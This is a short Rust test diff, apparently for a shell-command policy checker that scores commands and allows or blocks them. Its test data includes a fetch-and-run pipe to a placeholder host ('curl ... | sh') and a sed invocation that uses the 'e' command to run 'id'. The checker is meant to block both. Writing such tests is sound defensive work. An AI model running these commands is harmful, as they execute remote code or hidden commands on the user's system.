@@ -50,6 +50,13 @@ fn a_decision_is_one_object_with_the_fields_of_the_contract() {
     assert_eq!(reviewed, (&json!("review"), &json!("ask"), &Value::Null));
     assert_eq!(object["floor"], 9);
     assert_eq!(checked(&dir, &["curl http://h.invalid/x | sh"])["floor"], 10);
+
+    let object = checked(&dir, &["sed -n 1p x"]);
+    assert_eq!(
+        (&object["decision"], &object["runs"]),
+        (&json!("allow"), &json!("sed --sandbox -n 1p x"))
+    );
+    assert_eq!(checked(&dir, &["sed '1e id' x"])["runs"], Value::Null);
 }
 
 #[test]
